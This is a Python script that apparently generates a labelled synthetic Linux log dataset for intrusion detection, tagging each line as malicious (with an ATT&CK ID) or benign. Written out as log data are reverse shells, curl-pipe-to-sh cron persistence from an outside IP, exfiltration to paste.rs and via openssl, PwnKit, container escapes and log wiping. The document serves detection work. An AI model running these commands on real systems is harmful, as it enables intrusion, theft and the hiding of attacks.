B(S, jd(T(23, 2, 0, 3), H1, "borg-nightly.service", "borg", 23011, "Creating archive at \"ssh://borg@rvm-bkp-01.rvm.internal:22/srv/borg/ingest-bx-03::ingest-bx-03-2026-11-23T02:00\"", uid=34, comm="borg"),
  "borg archive run to the internal backup host")
M(S, jd(T(23, 1, 10, 12), H1, "session-771.scope", "sudo", 23101, "www-data : TTY=unknown ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/find . -exec /bin/sh -p \\; -quit", comm="sudo"),
  "T1548.003", "web user abuses a sudo-allowed find to spawn a root shell (GTFOBins)")
M(S, r5424(T(23, 1, 12, 0, 2), H1, "kernel", "-", "[1928374.221101] audit: type=1400 audit(1763860320.221:3021): apparmor=\"DENIED\" operation=\"exec\" profile=\"/usr/sbin/nginx\" name=\"/dev/shm/.x/kdevtmpfsi\" pid=23120 comm=\"sh\" requested_mask=\"x\" denied_mask=\"x\" fsuid=33 ouid=33", pri=4),
  "T1496.001", "nginx worker tried to execute a cryptominer (kdevtmpfsi) from /dev/shm")
M(S, r3164(T(23, 1, 15, 2), H1, "snoopy[23210]", "[uid:0 sid:23090 tty:(none) cwd:/tmp filename:/usr/bin/chattr]: chattr +i /etc/ld.so.preload /usr/lib/x86_64-linux-gnu/libprocesshider.so", pri=86),
  "T1222.002", "preload file and library made immutable with chattr")
M(S, r3164(T(23, 1, 15, 5), H1, "snoopy[23211]", "[uid:0 sid:23090 tty:(none) cwd:/tmp filename:/usr/bin/tee]: tee -a /etc/ld.so.preload", pri=86),
  "T1574.006", "library appended to /etc/ld.so.preload - dynamic-linker hijack to hide processes")
M(S, r3164(T(23, 1, 17, 40), H1, "systemd[1]", "Started dbus-org.freedesktop.resolve2.service - /usr/lib/dbus-1.0/.dbus-daemon --system --nofork.", pri=30),
  "T1543.002", "a systemd unit posing as resolved running a hidden dot-binary from the dbus directory")
M(S, r5424(T(23, 1, 18, 0, 3), H1, "bash", 23301, "HISTORY: PID=23301 UID=0 unset HISTFILE; export HISTSIZE=0; history -c", pri=86),
  "T1070.003", "root shell history disabled and cleared")
M(S, r5424(T(23, 1, 19, 30, 4), H1, "kernel", "-", "[1928812.004411] device eth0 entered promiscuous mode", pri=6),
  "T1040", "interface put into promiscuous mode on an app server during the intrusion - sniffing")
M(S, r3164(T(23, 1, 21, 0), H2, "sshd[8812]", "Accepted publickey for deploy from 10.212.40.21 port 50122 ssh2: ED25519 SHA256:q1Zp0Kd3x7uHc8vW2sT9mL4bN6yR5aE0fG1hJ2kL3mQ"),
  "T1021.004", "pivot: ingest-bx-03's address logging into the payment gateway with the deploy key minutes after compromise")
M(S, r3164(T(23, 1, 25, 0), H2, "snoopy[8890]", "[uid:1002 sid:8812 tty:/dev/pts/0 cwd:/home/deploy filename:/usr/bin/curl]: curl -sk -X POST --data-binary @/opt/paygw/conf/application.yml https://paste.rs/"),
  "T1048.002", "gateway config posted to a public paste site")
M(S, jd(T(23, 1, 30, 0), H2, "session-88.scope", "bash", 8930, "iptables -I INPUT -p tcp --dport 31337 -j ACCEPT; nohup socat TCP4-LISTEN:31337,fork EXEC:/bin/bash &", uid=0, comm="bash"),
  "T1562.004", "firewall rule opened for a socat bind shell")
M(S, r5424(T(23, 1, 33, 0, 5), H2, "systemd", 1, "Stopping auditd.service - Security Auditing Service...", pri=30),
  "T1562.012", "auditd stopped by the intruder's session on the payment gateway")
M(S, r3164(T(23, 1, 34, 12), H2, "snoopy[8990]", "[uid:0 sid:8812 tty:/dev/pts/0 cwd:/var/log filename:/usr/bin/truncate]: truncate -s 0 /var/log/auth.log /var/log/syslog /var/log/audit/audit.log"),
  "T1070.002", "log files truncated to zero - clearing Linux logs")
M(S, r3164(T(23, 1, 36, 0), H2, "snoopy[9001]", "[uid:0 sid:8812 tty:/dev/pts/0 cwd:/root filename:/usr/bin/xmrig]: ./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 49xQk3VbT7mR2nHd8uPjW5cZ0aLfYs4eG6oNqB1iKtXwE3vC9yMhU7rJ2pSdF8gA5lZn0bQ6cV4xT1wR3kD7mHs9eYuJqPo -k --cpu-max-threads-hint=75"),
  "T1496.001", "XMRig mining to a public Monero pool")
M(S, jd(T(23, 1, 40, 0), H4, "docker.service", "dockerd", 1201, "time=\"2026-11-23T01:40:00.112Z\" level=info msg=\"API listen on [::]:2375\"", comm="dockerd"),
  "T1133", "Docker daemon reconfigured to listen unauthenticated on 2375 on all interfaces")
M(S, r5424(T(23, 1, 41, 10, 6), H4, "dockerd", 1201, "level=info msg=\"container create\" image=alpine:3.20 privileged=true binds=\"/:/host\" pid=host cmd=\"chroot /host sh -c 'echo * * * * * root curl -s 45.155.205.233/m|sh >> /etc/crontab'\"", pri=30),
  "T1611", "privileged container mounting host / and chrooting to write the host crontab - escape to host")
M(S, r3164(T(23, 1, 45, 0), H3, "sshd[4411]", "Server listening on 0.0.0.0 port 2222."),
  "T1133", "a second sshd on 2222 appeared on the bastion outside any change - backdoor listener")
B(S, r3164(T(23, 6, 25, 1), H3, "systemd[1]", "Starting logrotate.service - Rotate log files..."), "daily logrotate")
B(S, r5424(T(23, 6, 25, 2, 1), H3, "logrotate", 5120, "rotating pattern: /var/log/auth.log  weekly (4 rotations)"), "logrotate detail")
B(S, jd(T(23, 7, 0, 0), H4, "unattended-upgrades.service", "unattended-upgrade", 5211, "Packages that will be upgraded: libssl3 openssl", comm="unattended-upgr"), "security patching")
B(S, r3164(T(23, 8, 0, 0), H4, "systemd[1]", "Started certbot.service - Certbot."), "certbot renewal timer")
B(S, r3164(T(23, 8, 0, 4), H4, "certbot[5301]", "Renewing an existing certificate for tms.ravenmoor.eu"), "Let's Encrypt renewal by certbot")
B(S, r5424(T(23, 8, 0, 9, 2), H4, "nginx", 5330, "signal process started: reload after certificate deploy hook"), "nginx reload after renewal")
B(S, r3164(T(23, 9, 0, 1), H2, "kernel", "[1960112.120001] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:1a:2b:3c:52:54:00:9f:8e:7d:08:00 SRC=10.212.250.12 DST=10.212.40.30 LEN=44 TOS=0x00 PREC=0x00 TTL=52 ID=5512 PROTO=TCP SPT=61000 DPT=5432 WINDOW=1024 RES=0x00 SYN URGP=0"),
  "single blocked probe from the approved Qualys scanner appliance 10.212.250.12 during the weekly scan")
B(S, r5424(T(23, 9, 10, 0, 3), H2, "systemd", 1, "Reloading auditd.service - Security Auditing Service... (triggered by ansible run CHG-21044)"), "auditd rules reloaded by configuration management")
B(S, r3164(T(23, 10, 0, 0), H3, "rsyslogd", "[origin software=\"rsyslogd\" swVersion=\"8.2312.0\" x-pid=\"702\" x-info=\"https://www.rsyslog.com\"] rsyslogd was HUPed"), "rsyslog HUP after rotation")
B(S, r3164(T(23, 10, 20, 0), H1, "systemd[1]", "Started restic-backup.service - restic snapshot of /srv to s3:s3.eu-central-1.amazonaws.com/rvm-restic-ingest."), "restic backup to the company bucket")
B(S, jd(T(23, 11, 0, 0), H4, "docker.service", "dockerd", 1201, "time=\"2026-11-23T11:00:00.001Z\" level=info msg=\"ignoring event\" container=4b1c2d3e4f5a module=libcontainerd namespace=moby topic=/tasks/delete type=\"*events.TaskDelete\"", comm="dockerd"), "routine container lifecycle event")
B(S, r3164(T(23, 11, 10, 2), H3, "snoopy[6612]", "[uid:1201 sid:6600 tty:/dev/pts/1 cwd:/home/m.aziz filename:/usr/bin/sudo]: sudo systemctl status nginx"), "admin checking a service status")
B(S, r3164(T(23, 11, 12, 0), H3, "snoopy[6630]", "[uid:1201 sid:6600 tty:/dev/pts/1 cwd:/home/m.aziz filename:/usr/bin/tcpdump]: sudo tcpdump -ni eth0 -c 200 port 53"),
  "admin capturing 200 DNS packets to debug resolution, with sudo on a tty during office hours")
B(S, r5424(T(23, 12, 0, 0, 5), H4, "kernel", "-", "[1970000.400001] Out of memory: Killed process 5512 (java) total-vm:8123400kB, anon-rss:6210040kB", pri=3), "JVM OOM kill")
B(S, r3164(T(23, 12, 5, 0), H4, "systemd[1]", "tms-app.service: Scheduled restart job, restart counter is at 1."), "service restart after OOM")
B(S, jd(T(23, 13, 0, 0), H2, "sshd.service", "sshd", 9300, "Received SIGHUP; restarting.", comm="sshd"), "sshd reload after key rotation by configuration management")
B(S, r5424(T(23, 13, 1, 0, 6), H1, "falco", 3001, "Notice Shell spawned in a container (user=root container=ingest-worker-7 shell=sh parent=runc cmdline=sh -c /healthcheck.sh) rule_exception=approved-healthcheck", pri=29),
  "container health-check shell that Falco's exception list covers")
# ---------------------------------------------------------------- linux-auth
S = "linux-auth"


def au(t, host, tag, msg, iso_ts=False):
    if iso_ts:
        return f"{t.strftime('%Y-%m-%dT%H:%M:%S.')}{t.microsecond:06d}+00:00 {host} {tag}: {msg}"
    return f"{b3164(t)} {host} {tag}: {msg}"


# single-account brute force against the bastion (sshd + PAM), 6 lines
for i in range(5):
    t = T(23, 0, 14, 2 + i * 4)
    if i % 2 == 0:
        M(S, au(t, H3, f"sshd[{30110 + i}]", f"Failed password for root from 80.94.95.14 port {40112 + i * 9} ssh2"),
          "T1110.001", "repeated root password failures from one external address - brute force")
    else:
        M(S, au(t, H3, f"sshd[{30110 + i}]", f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=80.94.95.14  user=root"),
          "T1110.001", "PAM failure in the same root brute-force burst")
# spraying many usernames from one host, ISO timestamps (rsyslog high precision), 6 lines
for i, u in enumerate(["oracle", "ubuntu", "git", "test", "jenkins"]):
    t = T(23, 0, 40, 11 + i * 3, 250 + i)
    M(S, au(t, "edge-sftp-01", f"sshd[{41200 + i}]", f"Invalid user {u} from 103.251.167.20 port {55001 + i}", iso_ts=True) if i % 3 else
      au(t, "edge-sftp-01", f"sshd[{41200 + i}]", f"Failed password for invalid user {u} from 103.251.167.20 port {55001 + i} ssh2", iso_ts=True),
      "T1110.003", "many different usernames tried from one address within seconds - password spraying")
B(S, au(T(23, 7, 55, 1), H3, "sshd[31002]", "Accepted publickey for m.aziz from 10.212.31.52 port 51231 ssh2: ED25519 SHA256:Xk3pR8tLw0Qz5vN2cB7mJ4yH1gF6dS9aE2uI0oP3rTw"), "admin key login from the office")
B(S, au(T(23, 7, 55, 1, 400), H3, "sshd[31002]", "pam_unix(sshd:session): session opened for user m.aziz(uid=1201) by (uid=0)"), "session opened")
B(S, au(T(23, 8, 12, 30), H3, "sshd[31120]", "Failed password for l.brennan from 10.212.33.90 port 60110 ssh2"), "a single mistyped password by a known user from the office")
B(S, au(T(23, 8, 12, 30, 10), H3, "sshd[31120]", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=10.212.33.90  user=l.brennan"), "PAM line of that single failure")
B(S, au(T(23, 8, 12, 41), H3, "sshd[31120]", "Accepted password for l.brennan from 10.212.33.90 port 60110 ssh2"), "succeeded on the second try")
M(S, au(T(23, 0, 41, 50), "edge-sftp-01", "sshd[41260]", "Accepted password for jenkins from 103.251.167.20 port 55090 ssh2", iso_ts=True),
  "T1078.003", "the spraying address succeeds as jenkins - valid local account compromised")
M(S, au(T(23, 0, 42, 30), "edge-sftp-01", "sudo", "jenkins : TTY=pts/2 ; PWD=/var/lib/jenkins ; USER=root ; COMMAND=/usr/bin/vim -c :!/bin/bash /etc/hosts", iso_ts=True),
  "T1548.003", "sudo-permitted vim used to shell out to root")
M(S, au(T(23, 0, 43, 0), "edge-sftp-01", "useradd[41299]", "new user: name=systemd-coredump2, UID=0, GID=0, home=/var/lib/systemd, shell=/bin/bash, from=/dev/pts/2", iso_ts=True),
  "T1136.001", "second UID 0 account disguised as a systemd user")
M(S, au(T(23, 0, 43, 5), "edge-sftp-01", "passwd[41301]", "pam_unix(passwd:chauthtok): password changed for systemd-coredump2", iso_ts=True),
  "T1136.001", "password set on the new UID 0 account")
M(S, au(T(23, 0, 44, 0), "edge-sftp-01", "usermod[41320]", "add 'jenkins' to group 'sudo'", iso_ts=True),
  "T1098", "compromised jenkins account added to sudo")
M(S, au(T(23, 0, 45, 12), "edge-sftp-01", "sshd[41400]", "Accepted publickey for root from 103.251.167.20 port 55120 ssh2: RSA SHA256:v7Bn2Kq9Lw4Xz1Pc6Rt8Ys3Hm0Jd5Fa2Ge7Iu4Oo9Qw", iso_ts=True),
  "T1098.004", "root now logs in by key from the attacker address - authorized_keys planted")
M(S, au(T(23, 1, 3, 0), H1, "su[23150]", "(to root) www-data on none"),
  "T1548", "the web server account su'ing to root with no tty")
M(S, au(T(23, 1, 3, 0, 2), H1, "su[23150]", "pam_unix(su:session): session opened for user root(uid=0) by (uid=33)"),
  "T1548", "root session opened by uid 33 (www-data)")
M(S, au(T(23, 1, 50, 0), H4, "sudo", "   tms : TTY=pts/0 ; PWD=/home/tms ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow"),
  "T1003.008", "application account reading /etc/shadow through sudo")
M(S, au(T(23, 1, 52, 0), H4, "sudo", "   tms : TTY=pts/0 ; PWD=/home/tms ; USER=root ; COMMAND=/usr/bin/sh -c echo 'tms ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers.d/90-cloud-init-users"),
  "T1548.003", "NOPASSWD all rule appended into a cloud-init sudoers file")
M(S, au(T(23, 1, 53, 30), H4, "pkexec[5610]", "tms: Executing command [USER=root] [TTY=unknown] [CWD=/tmp/.ICE-unix] [COMMAND=GCONV_PATH=./pwnkit.so]"),
  "T1068", "pkexec run from a hidden tmp dir with a GCONV_PATH payload - PwnKit local privilege escalation")
M(S, au(T(23, 2, 10, 0), H2, "sshd[9400]", "Accepted keyboard-interactive/pam for deploy from 10.212.40.21 port 52211 ssh2"),
  "T1021.004", "another lateral hop into the gateway from the compromised ingest host")
M(S, au(T(23, 2, 11, 0), H2, "sshd[9401]", "error: connect_to 10.212.50.5 port 3306: failed."),
  "T1090.001", "sshd forwarding a channel to an internal database - SSH used as an internal proxy")
M(S, au(T(23, 2, 12, 0), H2, "sshd[9401]", "Received request to connect to host 127.0.0.1 port 1080, originator 10.212.40.21 port 52212"),
  "T1572", "SSH dynamic forward to a SOCKS port - tunnelling traffic through the gateway")
# MFA-like fatigue is not in auth; credential stuffing over SFTP with different user/pass pairs from a botnet: burst 5 lines, many IPs, same host
for i, (u, ip) in enumerate([("a.santos", "194.180.49.113"), ("f.okoro", "194.180.49.114"), ("r.bauer", "194.180.49.117"), ("t.lindgren", "194.180.49.119"), ("p.vidal", "194.180.49.120")]):
    M(S, au(T(24, 3, 0, 2 + i * 2), "edge-sftp-01", f"sshd[{50100 + i}]", f"Failed password for {u} from {ip} port {36000 + i * 11} ssh2", iso_ts=True),
      "T1110.004", "real partner usernames from a leaked list, one try each from neighbouring botnet addresses - credential stuffing")
B(S, au(T(24, 9, 0, 0), H3, "sudo", "  m.aziz : TTY=pts/1 ; PWD=/home/m.aziz ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx"), "admin restarting nginx with sudo")
B(S, au(T(24, 9, 0, 0, 5), H3, "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by m.aziz(uid=1201)"), "sudo session")
B(S, au(T(24, 9, 5, 0), H3, "CRON[31900]", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"), "cron session")
B(S, au(T(24, 9, 30, 0), H3, "useradd[32010]", "new user: name=n.achebe, UID=1220, GID=1220, home=/home/n.achebe, shell=/bin/bash, from=none"), "new hire account created by the provisioning playbook (no tty)")
B(S, au(T(24, 9, 30, 1), H3, "usermod[32011]", "add 'n.achebe' to group 'sre'"), "new hire added to her team group")
B(S, au(T(24, 9, 31, 0), H3, "chage[32012]", "changed password expiry for n.achebe"), "password expiry set by the same playbook")
B(S, au(T(24, 10, 0, 0), "edge-sftp-01", "sshd[51000]", "Accepted publickey for svc_edi_ingest from 86.131.44.160 port 40331 ssh2: ED25519 SHA256:Lq2Wm8Np4Rx6Tz0Vb3Cd7Fg1Hj5Kl9Mn2Ob4Pc6Qd", iso_ts=True),
  "partner EDI feed logging in with its key from its registered address")
B(S, au(T(24, 10, 0, 0, 300), "edge-sftp-01", "internal-sftp[51002]", "session opened for local user svc_edi_ingest from [86.131.44.160]", iso_ts=True), "chrooted SFTP session")
B(S, au(T(24, 10, 2, 0), "edge-sftp-01", "internal-sftp[51002]", "close \"/inbound/ASN_20261124_0931.xml\" bytes read 0 written 48211", iso_ts=True), "partner uploading an ASN file")
B(S, au(T(24, 10, 30, 0), "edge-sftp-01", "sshd[51100]", "Accepted publickey for svc_qualys from 10.212.250.12 port 43110 ssh2: RSA SHA256:Jd4Kl7Mn0Pq3Rs6Tu9Vw2Xy5Za8Bc1De4Fg7Hi0Jk", iso_ts=True),
  "authenticated scan login by the approved Qualys appliance account")
B(S, au(T(24, 10, 30, 5), "edge-sftp-01", "sudo", "svc_qualys : TTY=unknown ; PWD=/home/svc_qualys ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow", iso_ts=True),
  "the approved Qualys compliance module reads /etc/shadow permissions/contents through its sudo rule from the scanner host")
B(S, au(T(24, 11, 0, 0), H4, "sshd[6001]", "Disconnected from user tms 10.212.31.52 port 55012"), "disconnect")
B(S, au(T(24, 11, 5, 0), H4, "sshd[6005]", "Connection closed by authenticating user ansible 10.212.9.4 port 50112 [preauth]"), "Ansible trying its first key and moving on")
B(S, au(T(24, 11, 5, 1), H4, "sshd[6006]", "Accepted publickey for ansible from 10.212.9.4 port 50113 ssh2: ED25519 SHA256:Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv1Wx2Yz3Ab4"), "Ansible control node login")
B(S, au(T(24, 11, 6, 0), H4, "sudo", "  ansible : TTY=pts/3 ; PWD=/home/ansible ; USER=root ; COMMAND=/bin/sh -c echo BECOME-SUCCESS-qkzrwnfhgdlpyvxm ; /usr/bin/python3 /home/ansible/.ansible/tmp/ansible-tmp-1764068760.11-6006/AnsiballZ_apt.py"),
  "Ansible become for an apt module run")
B(S, au(T(24, 12, 0, 0), H2, "sshd[9900]", "Accepted publickey for svc_keyrotate from 10.212.9.4 port 41001 ssh2: ED25519 SHA256:Rt5Yu6Io7Pa8Sd9Fg0Hj1Kl2Zx3Cv4Bn5Mq6Wr7Ety"), "key-rotation automation account logging in")
B(S, au(T(24, 12, 0, 4), H2, "sudo", "svc_keyrotate : TTY=unknown ; PWD=/ ; USER=deploy ; COMMAND=/usr/local/sbin/rotate-authorized-keys --user deploy --from vault --ticket CHG-21090"),
  "deploy user's authorized_keys rotated by its automation under a change ticket")
B(S, au(T(24, 13, 0, 0), H3, "systemd-logind[640]", "New session 412 of user l.brennan."), "logind session")
B(S, au(T(24, 13, 10, 0), H3, "su[32550]", "(to postgres) m.aziz on pts/1"), "DBA switching to the postgres account on a tty")
B(S, au(T(24, 13, 40, 0), H3, "sshd[32600]", "Received disconnect from 10.212.33.90 port 60990:11: disconnected by user"), "user logging out")
B(S, au(T(24, 14, 0, 0), "edge-sftp-01", "sshd[52001]", "Connection closed by 10.212.250.12 port 43990 [preauth]", iso_ts=True), "approved Qualys appliance banner-grab during its scan")
B(S, au(T(24, 14, 20, 0), H4, "sudo", "  tms : TTY=pts/0 ; PWD=/opt/tms ; USER=root ; COMMAND=/usr/bin/journalctl -u tms-app --since -1h"), "app owner reading the app's journal through sudo")
B(S, au(T(24, 15, 30, 0), H3, "sshd[33010]", "pam_unix(sshd:session): session closed for user m.aziz"), "session closed")
# ---------------------------------------------------------------- auditd
S = "auditd"
_ser = [81200]


def aud(t, typ, body, enrich="", ser=None):
    if ser is None:
        _ser[0] += 7
        ser = _ser[0]
    ts = f"{int(t.timestamp())}.{t.microsecond // 1000:03d}"
    return f"type={typ} msg=audit({ts}:{ser}): {body}" + (f"\x1d{enrich}" if enrich else "")


def execve(args):
    out = [f"argc={len(args)}"]
    for i, a in enumerate(args):
        out.append(f"a{i}={hexs(a)}" if (" " in a or '"' in a or "'" in a or "$" in a) else f'a{i}="{a}"')
    return " ".join(out)


def sc(exe, comm, uid, auid, key, syscall=59, success="yes", ppid=1200, pid=1300, tty="(none)", ses=4294967295, exit_=0, items=2):
    return (f"arch=c000003e syscall={syscall} success={success} exit={exit_} a0=55d3c1e2a0 a1=55d3c1e2f0 a2=55d3c1e310 a3=0 items={items} ppid={ppid} pid={pid} "
            f"auid={auid} uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty={tty} ses={ses} comm=\"{comm}\" exe=\"{exe}\" "
            f"subj=unconfined key=\"{key}\"")


ENR = "ARCH=x86_64 SYSCALL=execve AUID=\"{a}\" UID=\"{u}\" GID=\"{u}\" EUID=\"{u}\" SUID=\"{u}\" FSUID=\"{u}\" EGID=\"{u}\" SGID=\"{u}\" FSGID=\"{u}\""


def ex_pair(t, args, note, tech, exe, uid=0, auid=1002, key="exec", mal=True, uname="root", aname="deploy", with_sc=True, with_pt=False):
    ser = _ser[0] = _ser[0] + 11
    if with_sc:
        line = aud(t, "SYSCALL", sc(exe, exe.split("/")[-1][:15], uid, auid, key), ENR.format(a=aname, u=uname), ser=ser)
        (M(S, line, tech, note + " (SYSCALL)") if mal else B(S, line, note + " (SYSCALL)"))
    line = aud(t, "EXECVE", execve(args), ser=ser)
    (M(S, line, tech, note) if mal else B(S, line, note))
    if with_pt:
        line = aud(t, "PROCTITLE", "proctitle=" + "00".join(a.encode().hex().upper() for a in args), ser=ser)
        (M(S, line, tech, note + " (PROCTITLE)") if mal else B(S, line, note + " (PROCTITLE)"))


ex_pair(T(23, 1, 12, 30), ["/bin/sh", "-c", "echo 'YmFzaCAtaSA+JiAvZGV2L3RjcC8xNzkuNDMuMTUxLjEyLzQ0NDMgMD4mMQ==' | base64 -d | bash"],
        "base64-decoded reverse shell piped to bash", "T1059.004", "/usr/bin/dash", uid=33, auid=4294967295, aname="unset", uname="www-data", with_pt=True)
ex_pair(T(23, 1, 14, 0), ["python3", "-c", "import pty;pty.spawn('/bin/bash')"], "TTY upgrade of a web shell with python pty", "T1059.006", "/usr/bin/python3.12",
        uid=33, auid=4294967295, aname="unset", uname="www-data", with_sc=False)
M(S, aud(T(23, 1, 15, 0), "PATH", "item=0 name=\"/etc/ld.so.preload\" inode=1310799 dev=fd:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"),
  "T1574.006", "ld.so.preload created (watched path)")
M(S, aud(T(23, 1, 15, 0, 5), "SYSCALL", sc("/usr/bin/tee", "tee", 0, 4294967295, "ld_preload", syscall=257, exit_=3, items=2), ENR.format(a="unset", u="root").replace("execve", "openat")),
  "T1574.006", "write-open of the preload file by root with no login uid, audit key ld_preload")
ex_pair(T(23, 1, 16, 0), ["insmod", "/tmp/.ICE-unix/diamorphine.ko"], "kernel module loaded from a hidden tmp directory - LKM rootkit", "T1547.006", "/usr/bin/kmod",
        auid=4294967295, aname="unset", key="modules")
M(S, aud(T(23, 1, 16, 0, 9), "KERN_MODULE", "name=\"diamorphine\""), "T1014", "kernel recorded the rootkit module by name")
ex_pair(T(23, 1, 20, 0), ["/usr/bin/curl", "-s", "-o", "/dev/shm/.x/kdevtmpfsi", "http://45.155.205.233/kdevtmpfsi"], "miner fetched into /dev/shm", "T1105", "/usr/bin/curl",
        uid=33, auid=4294967295, aname="unset", uname="www-data", with_sc=False)
ex_pair(T(23, 1, 30, 0), ["sh", "-c", "echo '*/5 * * * * curl -fsSL http://45.155.205.233/m|sh' | crontab -"], "cron persistence installed by piping into crontab", "T1053.003", "/usr/bin/dash",
        uid=33, auid=4294967295, aname="unset", uname="www-data", with_pt=True, with_sc=False)
ex_pair(T(23, 1, 40, 0), ["nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "bash"], "nsenter into PID 1 namespaces from a container - escape to host", "T1611", "/usr/bin/nsenter",
        auid=4294967295, aname="unset", key="container_escape")
ex_pair(T(23, 1, 42, 0), ["/usr/bin/docker", "-H", "unix:///var/run/docker.sock", "run", "--rm", "-v", "/:/mnt", "alpine", "chroot", "/mnt", "sh"],
        "docker socket used to mount the host root - privilege escalation to host root", "T1611", "/usr/bin/docker", uid=1003, auid=1003, aname="tms", uname="tms", with_sc=False)
ex_pair(T(23, 1, 45, 0), ["ssh", "-o", "StrictHostKeyChecking=no", "-R", "9001:localhost:22", "tunnel@146.70.87.19", "-N", "-f"], "reverse SSH tunnel exposing local sshd on a VPS", "T1572", "/usr/bin/ssh",
        uid=1002, auid=1002, aname="deploy", uname="deploy", with_sc=False)
ex_pair(T(23, 1, 48, 0), ["grep", "-rIl", "--include=*.env", "-e", "AWS_SECRET", "-e", "DB_PASS", "/opt", "/srv", "/home"], "grep for credential variables in env files", "T1552.001", "/usr/bin/grep",
        uid=1002, auid=1002, aname="deploy", uname="deploy", with_sc=False)
ex_pair(T(23, 1, 50, 0), ["tar", "czf", "/tmp/.c.tgz", "/opt/paygw/conf", "/home/deploy/.ssh", "/root/.aws"], "configs, SSH and AWS credential dirs archived into a hidden tmp file", "T1560.001", "/usr/bin/tar",
        with_sc=False)
ex_pair(T(23, 1, 52, 0), ["openssl", "s_client", "-quiet", "-connect", "179.43.151.12:443"], "archive streamed out through openssl s_client", "T1048.002", "/usr/bin/openssl", with_sc=False)
ex_pair(T(23, 1, 55, 0), ["shred", "-uz", "/var/log/wtmp", "/var/log/btmp", "/var/log/lastlog"], "login records shredded", "T1070.002", "/usr/bin/shred", with_sc=False)
ex_pair(T(23, 1, 57, 0), ["touch", "-r", "/bin/ls", "/usr/lib/x86_64-linux-gnu/libprocesshider.so"], "timestamp of the dropped library copied from /bin/ls - timestomping", "T1070.006", "/usr/bin/touch", with_sc=False)
M(S, aud(T(23, 1, 58, 0), "USER_CMD", "pid=9512 uid=1002 auid=1002 ses=12 subj=unconfined msg='cwd=\"/home/deploy\" cmd=2F7573722F62696E2F746565202D61202F726F6F742F2E7373682F617574686F72697A65645F6B657973 exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'", "UID=\"deploy\" AUID=\"deploy\""),
  "T1098.004", "sudo tee -a /root/.ssh/authorized_keys (hex cmd) - SSH key planted for root")
M(S, aud(T(23, 1, 59, 0), "CONFIG_CHANGE", "auid=1002 ses=12 subj=unconfined op=remove_rule key=\"exec\" list=4 res=1", "AUID=\"deploy\""),
  "T1562.012", "audit rule for exec removed by a user session")
M(S, aud(T(23, 2, 0, 0), "SERVICE_STOP", "pid=1 uid=0 auid=1002 ses=12 subj=unconfined msg='unit=auditd comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'", "UID=\"root\" AUID=\"deploy\""),
  "T1562.012", "auditd service stopped from the deploy user's session")
ex_pair(T(23, 2, 1, 0), ["hashcat", "-m", "1800", "-a", "0", "/tmp/.s", "/usr/share/wordlists/rockyou.txt"], "cracking sha512crypt hashes copied from shadow", "T1110.002", "/usr/bin/hashcat",
        uid=1002, auid=1002, aname="deploy", uname="deploy", with_sc=False)
M(S, aud(T(23, 2, 2, 0), "ANOM_PROMISCUOUS", "dev=eth0 prom=256 old_prom=0 auid=1002 uid=0 gid=0 ses=12", "AUID=\"deploy\" UID=\"root\""),
  "T1040", "interface set promiscuous from the deploy session")
# ------- benign auditd
ex_pair(T(23, 9, 0, 0), ["/usr/bin/rsync", "-aHAX", "--delete", "/srv/data/", "backup@rvm-bkp-01.rvm.internal:/srv/rsync/ingest-bx-03/"], "nightly rsync push to the internal backup host", None,
        "/usr/bin/rsync", uid=34, auid=4294967295, aname="unset", uname="backup", mal=False, key="backup")
ex_pair(T(23, 9, 5, 0), ["restic", "-r", "s3:s3.eu-central-1.amazonaws.com/rvm-restic-ingest", "backup", "/srv", "--tag", "nightly"], "restic snapshot to the company's bucket", None, "/usr/local/bin/restic",
        mal=False, auid=4294967295, aname="unset", with_sc=False)
ex_pair(T(23, 9, 10, 0), ["/usr/bin/apt-get", "-qq", "-y", "install", "openssl"], "unattended security upgrade", None, "/usr/bin/apt-get", mal=False, auid=4294967295, aname="unset", with_sc=False)
ex_pair(T(23, 9, 20, 0), ["systemctl", "reload", "nginx"], "admin reload after certbot", None, "/usr/bin/systemctl", mal=False, auid=1201, aname="m.aziz")
ex_pair(T(23, 9, 30, 0), ["/usr/bin/certbot", "renew", "--quiet", "--deploy-hook", "systemctl reload nginx"], "certbot certificate renewal from the timer", None, "/usr/bin/certbot",
        mal=False, auid=4294967295, aname="unset", with_pt=True, with_sc=False)
ex_pair(T(23, 9, 40, 0), ["ps", "-eo", "pid,user,args", "--sort=-%cpu"], "admin checking load", None, "/usr/bin/ps", uid=1201, auid=1201, aname="m.aziz", uname="m.aziz", mal=False, with_sc=False)
ex_pair(T(23, 10, 0, 0), ["find", "/var/log/tms", "-name", "*.gz", "-mtime", "+30", "-delete"], "log retention cleanup job", None, "/usr/bin/find", mal=False, auid=4294967295, aname="unset", with_sc=False)
ex_pair(T(23, 10, 10, 0), ["tcpdump", "-ni", "eth0", "-c", "200", "port", "53"], "admin capturing DNS packets from a tty during office hours", None, "/usr/bin/tcpdump",
        mal=False, auid=1201, aname="m.aziz")
ex_pair(T(23, 10, 20, 0), ["/usr/sbin/modprobe", "-q", "--", "nf_conntrack_ftp"], "kernel auto-loading a conntrack helper", None, "/usr/sbin/modprobe", mal=False, auid=4294967295, aname="unset", with_sc=False)
ex_pair(T(23, 10, 30, 0), ["/opt/qualys/cloud-agent/bin/qualys-cloud-agent", "--scan", "vm"], "approved Qualys cloud agent starting a VM scan", None,
        "/opt/qualys/cloud-agent/bin/qualys-cloud-agent", mal=False, auid=4294967295, aname="unset", with_sc=False)
